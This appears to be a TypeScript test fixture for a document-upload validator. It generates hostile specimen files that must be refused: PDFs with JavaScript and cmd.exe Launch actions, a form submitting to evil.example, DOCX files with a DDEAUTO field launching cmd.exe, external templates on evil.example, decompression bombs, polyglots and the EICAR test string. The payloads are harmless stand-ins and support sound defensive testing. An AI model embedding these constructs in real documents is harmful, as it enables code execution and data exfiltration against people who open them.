/** Documents that must be refused, each with the reason: made here, nothing of it can harm anybody. */
import { deflateSync } from 'node:zlib';
import type { FileFault } from '../../../src/domain/refusals.ts';
import { aGoodPdf, aPdfOf, objectStream, orderLines, pdfOf } from './pdf.ts';
import { aJpeg, aJpegOf, aPng, aPngOf, aTiffOf } from './pictures.ts';
import { aDocxOf, aXlsxOf, relsOf, zipOf } from './zip.ts';

export interface Specimen {
  readonly what: string;
  readonly fileName: string;
  readonly bytes: Buffer;
  readonly reason: FileFault;
}

/** The test file of the anti-virus industry, in two halves so that no scanner takes this source away. */
export const eicar = Buffer.from(
  ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join(''),
  'latin1',
);

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const catalog = { catalog: '/OpenAction 6 0 R' };
const html = '<!doctype html><html><script>alert(1)</script></html>';
const office = (parts: readonly { name: string; content: string | Buffer }[]) => aDocxOf(orderLines, { parts });
const macroType = 'application/vnd.ms-word.document.macroEnabled.main+xml';
const bytesOf = (text: string) => Buffer.from(text, 'latin1');
/** As after a tear in the file: the last third is missing. */
const torn = (bytes: Buffer) => bytes.subarray(0, Math.floor((bytes.length * 2) / 3));

const pdf = (what: string, reason: FileFault, bytes: Buffer): Specimen => ({ what, fileName: 'PO.pdf', bytes, reason });
const docx = (what: string, reason: FileFault, bytes: Buffer): Specimen => ({
  what,
  fileName: 'PO.docx',
  bytes,
  reason,
});

export const hostileDocuments: readonly Specimen[] = [
  pdf('a PDF with a script', 'active-content', aPdfOf(orderLines, { ...catalog, more: [script] })),
  pdf(
    'a PDF whose script is spelled in hex',
    'active-content',
    aPdfOf(orderLines, { ...catalog, more: ['<< /S /J#61vaScr#69pt /J#53 (app.alert\\(1\\)) >>'] }),
  ),
  pdf(
    'a PDF whose script is packed with other objects',
    'active-content',
    aPdfOf(orderLines, { ...catalog, more: [objectStream(7, [script])] }),
  ),
  pdf(
    'a PDF whose packed script has a wrong checksum',
    'active-content',
    aPdfOf(orderLines, {
      ...catalog,
      more: [objectStream(7, [script], (packed) => Buffer.concat([packed.subarray(0, -4), Buffer.alloc(4)]))],
    }),
  ),
  pdf(
    'a PDF whose objects are packed in a way of their own',
    'unreadable',
    aPdfOf(orderLines, {
      more: [objectStream(7, [script], (packed) => Buffer.from(packed.map((byte) => byte ^ 0xff)))],
    }),
  ),
  pdf(
    'a PDF whose script stands in what looks like a stream',
    'active-content',
    aPdfOf(orderLines, {
      ...catalog,
      more: [`<< /X (>>\nstream\n) /S /JavaScript /JS (app.alert\\(1\\)) /Y (endstream) >>`],
    }),
  ),
  pdf(
    'a PDF that starts a program',
    'active-content',
    aPdfOf(orderLines, { ...catalog, more: ['<< /S /Launch /F (cmd.exe) >>'] }),
  ),
  pdf(
    'a PDF that starts a program when a page is opened',
    'active-content',
    aPdfOf(orderLines, { page: '/AA << /O << /S /Launch /Win << /F (cmd.exe) >> >> >>' }),
  ),
  pdf('a PDF with a film in it', 'active-content', aPdfOf(orderLines, { page: '/Annots [<< /Subtype /RichMedia >>]' })),
  pdf(
    'a PDF form of scripts',
    'active-content',
    aPdfOf(orderLines, { catalog: '/AcroForm << /XFA 6 0 R >>', more: ['<< >>'] }),
  ),
  pdf(
    'a PDF that sends a form',
    'active-content',
    aPdfOf(orderLines, { ...catalog, more: ['<< /S /SubmitForm /F (https://evil.example/) >>'] }),
  ),
  pdf(
    'a PDF with a file in it',
    'embedded-files',
    aPdfOf(orderLines, {
      catalog: '/Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >>',
      more: [
        '<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>',
        '<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream',
      ],
    }),
  ),
  pdf(
    'an encrypted PDF',
    'encrypted',
    aPdfOf(orderLines, {
      trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O (o) /U (u) /P -44 >> /ID [<00><00>]',
    }),
  ),
  pdf('half a PDF', 'unreadable', torn(aGoodPdf)),
  pdf('a PDF without pages', 'unreadable', pdfOf(['<< /Type /Catalog >>'])),
  pdf('a PDF of nothing but its first line', 'unreadable', bytesOf('%PDF-1.7\nstartxref\n0\n%%EOF\n')),
  pdf(
    'a PDF that unpacks to gigabytes',
    'bomb',
    aPdfOf(orderLines, {
      more: [objectStream(7, ['null'], () => deflateSync(Buffer.alloc(70 * 1024 * 1024, ' ')))],
    }),
  ),
  pdf(
    'a PDF that is a zip as well',
    'two-in-one',
    Buffer.concat([aGoodPdf, zipOf([{ name: 'x.exe', content: 'MZ' }])]),
  ),
  pdf('a page of HTML named .pdf', 'type-not-allowed', bytesOf(html)),
  pdf('EICAR named .pdf', 'known-bad', eicar),
  pdf(
    'a PDF with EICAR in it',
    'known-bad',
    Buffer.concat([aGoodPdf.subarray(0, 15), bytesOf('%'), eicar, aGoodPdf.subarray(14)]),
  ),
  pdf('a zip named .pdf', 'type-not-allowed', zipOf([{ name: 'PO.pdf', content: aGoodPdf }])),
  pdf('a DOCX named .pdf', 'name-disagrees', aDocxOf(orderLines)),
  pdf('nothing', 'empty', Buffer.alloc(0)),

  docx('a DOCX with macros', 'macros', office([{ name: 'word/vbaProject.bin', content: 'x' }])),
  docx('a DOCX that says it has macros', 'macros', aDocxOf(orderLines, { mainType: macroType })),
  docx(
    'a DOCX with a template from elsewhere',
    'external-links',
    office([
      {
        name: 'word/_rels/settings.xml.rels',
        content: relsOf({ type: 'attachedTemplate', target: 'https://evil.example/t.dotm', mode: 'External' }),
      },
    ]),
  ),
  docx(
    'a DOCX whose picture lies elsewhere, spelled in entities',
    'external-links',
    office([
      {
        name: 'word/_rels/document.xml.rels',
        content: relsOf({ type: 'image', target: '\\\\evil.example\\x.png', mode: '&#69;xternal' }),
      },
    ]),
  ),
  docx(
    'a DOCX with a link to a file share',
    'external-links',
    office([
      {
        name: 'word/_rels/document.xml.rels',
        content: relsOf({ type: 'hyperlink', target: 'file://evil.example/x', mode: 'External' }),
      },
    ]),
  ),
  docx(
    'a DOCX whose links are written in UTF-16',
    'external-links',
    office([
      {
        name: 'word/_rels/document.xml.rels',
        content: Buffer.from(
          `\ufeff${relsOf({ type: 'oleObject', target: 'https://evil.example/', mode: 'External' })}`,
          'utf16le',
        ),
      },
    ]),
  ),
  docx(
    'a DOCX with an OLE object',
    'embedded-files',
    office([{ name: 'word/embeddings/oleObject1.bin', content: 'x' }]),
  ),
  docx(
    'a DOCX with an OLE object under another name',
    'embedded-files',
    office([{ name: 'word/media/image1.bin', content: Buffer.from('d0cf11e0a1b11ae1', 'hex') }]),
  ),
  docx(
    'a DOCX with an archive in it',
    'embedded-files',
    office([{ name: 'word/media/image1.png', content: zipOf([{ name: 'x', content: 'x' }]) }]),
  ),
  docx(
    'a DOCX with an ActiveX control',
    'active-content',
    office([{ name: 'word/activeX/activeX1.xml', content: '<ax/>' }]),
  ),
  docx(
    'a DOCX with entities of its own',
    'active-content',
    office([{ name: 'word/document.xml', content: '<!DOCTYPE x [<!ENTITY a "b">]><w:document/>' }]),
  ),
  docx(
    'a DOCX with a DDE field',
    'active-content',
    office([
      {
        name: 'word/document.xml',
        content: '<w:document><w:instrText> DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:document>',
      },
    ]),
  ),
  docx('a DOCX with EICAR in it', 'known-bad', office([{ name: 'word/media/image1.png', content: eicar }])),
  docx(
    'a DOCX that says it unpacks to a terabyte',
    'bomb',
    aDocxOf(orderLines, { parts: [{ name: 'word/media/image1.bmp', content: 'x', claims: 0xffff_fff0 }] }),
  ),
  docx(
    'a DOCX that unpacks to a hundred times its size',
    'bomb',
    office([{ name: 'word/media/image1.bmp', content: Buffer.alloc(40 * 1024 * 1024) }]),
  ),
  docx(
    'a DOCX that lies about what it unpacks to',
    'unreadable',
    aDocxOf(orderLines, {
      parts: [{ name: 'word/media/image1.bmp', content: Buffer.alloc(30 * 1024 * 1024), claims: 10 }],
    }),
  ),
  docx(
    'a DOCX of thousands of files',
    'bomb',
    office(Array.from({ length: 2001 }, (_, i) => ({ name: `word/${i}.xml`, content: '' }))),
  ),
  docx('an encrypted zip', 'encrypted', zipOf([{ name: '[Content_Types].xml', content: 'x', isEncrypted: true }])),
  docx('an encrypted DOCX', 'encrypted', Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504)])),
  docx('half a DOCX', 'unreadable', torn(aDocxOf(orderLines))),
  docx('an archive named .docx', 'type-not-allowed', zipOf([{ name: 'PO.pdf', content: aGoodPdf }])),
  docx('an XLSX named .docx', 'name-disagrees', aXlsxOf([['Total', 156.87]])),
  {
    what: 'an XLSX with links to another workbook',
    fileName: 'PO.xlsx',
    bytes: aXlsxOf([['x']], { parts: [{ name: 'xl/externalLinks/externalLink1.xml', content: '<x/>' }] }),
    reason: 'external-links',
  },
  {
    what: 'an XLSX with macros of the old kind',
    fileName: 'PO.xlsx',
    bytes: aXlsxOf([['x']], { parts: [{ name: 'xl/macrosheets/sheet1.xml', content: '<x/>' }] }),
    reason: 'macros',
  },

  { what: 'a PNG of too many pixels', fileName: 'PO.png', bytes: aPngOf(30_000, 30_000), reason: 'too-many-pixels' },
  { what: 'a JPEG of too many pixels', fileName: 'PO.jpg', bytes: aJpegOf(65_535, 65_535), reason: 'too-many-pixels' },
  { what: 'a TIFF of too many pixels', fileName: 'PO.tif', bytes: aTiffOf(100_000, 2), reason: 'too-many-pixels' },
  {
    what: 'a TIFF that goes round in circles',
    fileName: 'PO.tif',
    bytes: aTiffOf(1, 1, { next: 8 }),
    reason: 'unreadable',
  },
  { what: 'half a PNG', fileName: 'PO.png', bytes: torn(aPng), reason: 'unreadable' },
  { what: 'a JPEG without an end', fileName: 'PO.jpg', bytes: aJpeg.subarray(0, -2), reason: 'unreadable' },
  {
    what: 'a PNG with a PDF behind it',
    fileName: 'PO.png',
    bytes: Buffer.concat([aPng, aGoodPdf]),
    reason: 'two-in-one',
  },
  {
    what: 'a JPEG with a zip behind it',
    fileName: 'PO.jpg',
    bytes: Buffer.concat([aJpeg, zipOf([{ name: 'x.exe', content: 'MZ' }])]),
    reason: 'two-in-one',
  },
  {
    what: 'a JPEG with HTML behind it',
    fileName: 'PO.jpg',
    bytes: Buffer.concat([aJpeg, bytesOf(html)]),
    reason: 'two-in-one',
  },
  { what: 'a PNG named .pdf', fileName: 'PO.pdf', bytes: aPng, reason: 'name-disagrees' },
  { what: 'a PDF named .exe', fileName: 'PO.pdf.exe', bytes: aGoodPdf, reason: 'name-disagrees' },
  { what: 'a GIF', fileName: 'PO.gif', bytes: bytesOf('GIF89a\x01\0\x01\0\0\0\0;'), reason: 'type-not-allowed' },
  {
    what: 'an SVG',
    fileName: 'PO.svg',
    bytes: bytesOf('<svg xmlns="http://www.w3.org/2000/svg"><script/></svg>'),
    reason: 'type-not-allowed',
  },
  {
    what: 'a program',
    fileName: 'PO.pdf',
    bytes: Buffer.concat([bytesOf('MZ'), Buffer.alloc(100)]),
    reason: 'type-not-allowed',
  },
];
